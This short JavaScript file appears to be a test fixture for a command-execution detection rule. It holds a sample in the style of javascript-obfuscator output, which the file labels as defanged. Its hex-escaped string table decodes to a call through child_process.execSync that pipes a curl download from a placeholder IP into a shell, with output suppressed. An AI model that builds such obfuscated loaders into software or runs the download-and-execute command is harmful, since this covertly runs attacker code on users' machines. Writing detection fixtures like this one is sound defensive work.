// javascript-obfuscator style output (defanged): a string table turned until a checksum matches a
// negative target, then a decoder that indexes it. It decodes to a download piped into a shell.
function _0x4e1a(){var _0x9b2c=['\x38\x38\x75\x49\x6f','\x34\x31\x37\x70\x41\x73','\x33\x33\x30\x31\x64\x46\x67','\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73','\x65\x78\x65\x63\x53\x79\x6e\x63','\x63\x75\x72\x6c\x20\x2d\x66\x73\x53\x4c\x20\x68\x74\x74\x70\x3a\x2f\x2f\x32\x30\x33\x2e\x30\x2e\x31\x31\x33\x2e\x39\x2f\x70\x2e\x73\x68\x20\x7c\x20\x73\x68','\x69\x67\x6e\x6f\x72\x65','\x39\x30\x37\x31\x35\x33\x32\x6b\x51\x77\x65','\x32\x30\x39\x34\x72\x54\x79','\x35\x35\x33\x31\x78\x5a\x63'];_0x4e1a=function(){return _0x9b2c;};return _0x4e1a();}
function _0x1c7d(_0x3a,_0x5b){var _0x2d=_0x4e1a();return _0x1c7d=function(_0x6e,_0x7f){_0x6e=_0x6e-0x100;var _0x8a=_0x2d[_0x6e];return _0x8a;},_0x1c7d(_0x3a,_0x5b);}
(function(_0x11,_0x22){var _0x33=_0x1c7d,_0x44=_0x11();while(!![]){try{var _0x55=-parseInt(_0x33(0x104))/0x1+parseInt(_0x33(0x105))/0x2*(parseInt(_0x33(0x106))/0x3)+-parseInt(_0x33(0x107))/0x4+parseInt(_0x33(0x108))/0x5*(-parseInt(_0x33(0x109))/0x6);if(_0x55===_0x22)break;else _0x44['push'](_0x44['shift']());}catch(_0x66){_0x44['push'](_0x44['shift']());}}}(_0x4e1a,-7187118.9));
var _0x77=_0x1c7d;
// ruleid: code/command-execution
require(_0x77(0x100))[_0x77(0x101)](_0x77(0x102),{'stdio':_0x77(0x103)});
